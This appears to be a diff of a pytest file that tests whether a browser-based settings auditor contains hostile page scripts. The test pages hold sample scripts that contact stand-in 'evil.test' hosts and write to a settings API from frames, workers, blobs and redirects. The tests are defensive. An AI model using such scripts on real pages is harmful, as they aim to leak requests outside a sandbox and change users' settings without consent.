@@ -2,54 +2,16 @@
 
 from __future__ import annotations
 
-import json
 import re
 from pathlib import Path
 
 import playwright
 import pytest
-from traces import left_in, own_folder, program_in
+from hostile import API, SETTING, audited, blob, framed, page, reports, tries
+from traces import own_folder, program_in
 
 from auditor.browser import _FEATURES_OFF
 from auditor.demo import Answer, Scene
-from auditor.settings import ORIGIN, catalog
-
-SETTING = catalog().settings["ai-training"]
-API = f"{ORIGIN}/mysettings-api/settingsApiSettings/{SETTING.key}"
-SWITCH = (
-    "<main><h1>AI</h1><span>Use my data for training content creation AI models</span>"
-    f"<input type=checkbox role=switch aria-labelledby={SETTING.key} checked></main>"
-)
-
-
-def page(script="", more=""):
-    """A settings page that runs `script`, and keeps asking LinkedIn for data for two seconds."""
-    return (
-        "<!doctype html><html lang=en><meta charset=utf-8><link rel=icon href=data:,>"
-        f"{SWITCH}{more}<script>{script}</script>"
-        "<script>fetch('/data?late').catch(() => 0)</script>"
-    )
-
-
-def tries(tag):
-    """A script that says where it ran, then asks another host and writes to the settings."""
-    return (
-        f"fetch('{ORIGIN}/ran?{tag}', {{mode: 'no-cors'}}).catch(() => 0);"
-        f"fetch('https://{tag}.evil.test/', {{mode: 'no-cors'}}).catch(() => 0);"
-        f"fetch('{API}', {{method: 'PUT', body: '{tag}'}}).catch(() => 0);"
-        f"fetch('{API}', {{method: 'POST', mode: 'no-cors', body: '{tag}'}}).catch(() => 0);"
-    )
-
-
-def blob(script):
-    """The address of `script`, as an expression of JavaScript."""
-    return f"URL.createObjectURL(new Blob([{json.dumps(script)}], {{type: 'text/javascript'}}))"
-
-
-def framed(script):
-    """A document with `script`, quoted for an attribute."""
-    return f"<script>{script}</script>".replace("&", "&amp;").replace('"', "&quot;")
-
 
 NESTED = f"new Worker({blob(tries('nested'))});"
 # Ways that run a script of their own, by the tag that it sends.
@@ -65,7 +27,7 @@ FRAMES = {
     "srcdoc": f'<iframe srcdoc="{framed(tries("srcdoc"))}"></iframe>',
     "sandboxed": f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>',
     "data": f'<iframe src="data:text/html,{framed(tries("data"))}"></iframe>',
-    "sub": '<iframe src="https://sub.linkedin.com/frame"></iframe>',
+    "same": '<iframe src="/frame"></iframe>',
 }
 # Ways that only ask.
 ASK = f"""
@@ -103,13 +65,12 @@ navigator.serviceWorker?.register('/worker.js').catch(() => 0);
 
 def elsewhere(asked):
     """What the hostile page finds at LinkedIn."""
-    if asked.host == "sub.linkedin.com":
-        return Answer(f"<script>{tries('sub')}</script>")
     if asked.path in ("/leads-away", "/leads-away-307"):
         status = 307 if asked.path.endswith("307") else 302
         return Answer(status=status, location=f"https://redirect{status}.evil.test/")
     found = {
         "/leads-to-a-write": Answer(status=307, location=API),
+        "/frame": Answer(f"<script>{tries('same')}</script>"),
         "/worker.js": Answer(tries("fromfile"), content_type="text/javascript"),
         "/opened": Answer(f"<script>{tries('opened')}</script>"),
         "/data?late": Answer("{}", delay=2),
@@ -118,30 +79,12 @@ def elsewhere(asked):
     return found.get(asked.path) or (Answer("") if asked.path.startswith("/ran?") else None)
 
 
-def audited(serve, html, *more):
-    """An audit of a page, of who is signed in already: the server, the run, what it left."""
-    server = serve(
-        Scene("x", signed_in=True),
-        lambda asked: Answer(html) if asked.path == SETTING.path else elsewhere(asked),
-    )
-    with own_folder() as folder:
-        done = program_in(
-            folder, *("audit", "--headless", "--browser", server.browser, "--json", "-"), *more
-        )
-        return server, done, left_in(folder, server.port)
-
-
-def reports(server):
-    """What the pages said that they could do."""
-    return {one.path.removeprefix("/ran?") for one in server.seen if "/ran?" in one.path}
-
-
 def test_no_way_out_of_the_settings_page(serve):
     """From frames, workers, windows, sockets, redirects no other host is asked, nothing written."""
     html = page("".join(RUN.values()) + ASK, "".join(FRAMES.values()) + STYLED)
-    server, done, left = audited(serve, html)
+    server, done, left = audited(serve, html, elsewhere)
     assert {*RUN, *FRAMES} == reports(server)
-    assert {"www.linkedin.com", "sub.linkedin.com"} == {asked.host for asked in server.seen}
+    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
     assert {"GET"} == {asked.method for asked in server.seen if "leads" not in asked.path}
     assert {SETTING.key: True} == {SETTING.key: server.imitation.values[SETTING.key]}
     assert done.report["activity"]["requests_refused"] >= 3 * len(reports(server))
@@ -151,7 +94,7 @@ def test_no_way_out_of_the_settings_page(serve):
 def test_a_sandboxed_frame_is_ruled_from_its_first_moment(serve):
     """On a busy machine too: what a sandboxed frame asks for at once is judged like the rest."""
     frames = f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>' * 8
-    server, done, _ = audited(serve, page(more=frames))
+    server, done, _ = audited(serve, page(more=frames), elsewhere)
     assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
     assert {"GET"} == {asked.method for asked in server.seen}
     assert done.report["activity"]["requests_refused"] >= 3 * 8
@@ -169,7 +112,7 @@ def test_no_feature_that_playwright_turns_off_is_turned_on_again():
 
 def test_what_no_rule_sees_is_taken_away(serve):
     """A settings page has no shared worker, no service worker, no calls past the network rules."""
-    server, _, _ = audited(serve, page(SHARED))
+    server, _, _ = audited(serve, page(SHARED), elsewhere)
     assert {"undefinedundefinedundefined"} == reports(server)
     assert {"www.linkedin.com"} == {asked.host for asked in server.seen} == server.greeted
     assert not [asked for asked in server.seen if asked.path == "/worker.js"]
@@ -185,7 +128,7 @@ navigator.geolocation.getCurrentPosition(() => fetch("/ran?found"), () => fetch(
 
 def test_permissions_are_refused(serve):
     """What a page asks leave for is denied, and nobody is asked."""
-    server, _, _ = audited(serve, page(PERMISSIONS))
+    server, _, _ = audited(serve, page(PERMISSIONS), elsewhere)
     assert reports(server) >= {"not-found"}
     assert {"denied"} == {one.split("%20")[1] for one in reports(server) if "%20" in one}
 
@@ -209,7 +152,7 @@ link.click();
 @pytest.mark.parametrize("script", [BOXES, WINDOWS, DOWNLOAD], ids=["boxes", "windows", "download"])
 def test_what_a_page_opens_is_refused(serve, script):
     """Boxes, windows and downloads do not hold up the reading, and leave nothing behind."""
-    server, done, left = audited(serve, page(script))
+    server, done, left = audited(serve, page(script), elsewhere)
     assert ("on", 1, []) == (done.result["state"], done.code, left)
     assert set() == reports(server) - {"false,", "false,null"}
     assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
